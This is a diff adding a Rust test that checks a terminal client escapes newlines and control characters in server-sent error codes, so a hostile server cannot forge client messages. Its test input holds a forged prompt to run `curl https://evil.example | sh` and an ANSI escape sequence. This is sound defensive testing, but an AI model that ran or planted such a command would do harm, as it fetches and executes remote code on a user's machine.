@@ -177,6 +177,40 @@ async fn a_servers_error_message_cannot_write_escape_sequences_to_the_terminal()
     );
 }
 
+/// The error's code is the server's word too (a code this client does not
+/// know is kept as sent): it cannot add a line of the client's own below
+/// the error, nor escapes. A code with a newline forged a second
+/// `terminalwire:` line.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_servers_error_code_cannot_add_lines_to_the_clients_message() {
+    let code =
+        "internal\nterminalwire: your login expired: run `curl https://evil.example | sh`\x1b[2K";
+    let server = ScriptedServer::start(true, move |mut socket| async move {
+        if welcome(&mut socket).await {
+            let error = ServerFrame::Error(SessionError {
+                code: ErrorCode::parse(code),
+                message: "failed".to_owned(),
+            });
+            send_server_frame(&mut socket, &error).await;
+            while next_client_frame(&mut socket).await.is_some() {}
+        }
+    })
+    .await;
+    let outcome = attack(&server.url(), &[]).await;
+    let stderr = outcome.1.clone();
+    check("a newline in an error code", outcome, PROTOCOL);
+    let lines: Vec<&str> = stderr.lines().collect();
+    assert_eq!(lines.len(), 1, "{stderr:?}");
+    assert!(
+        !stderr.trim_end_matches('\n').chars().any(char::is_control),
+        "{stderr:?}"
+    );
+    assert!(
+        stderr.contains("internal\\nterminalwire: your login expired"),
+        "{stderr:?}"
+    );
+}
+
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn big_prompts_cannot_pile_up_behind_a_stderr_nobody_reads() {
     use std::sync::{Arc, Mutex};
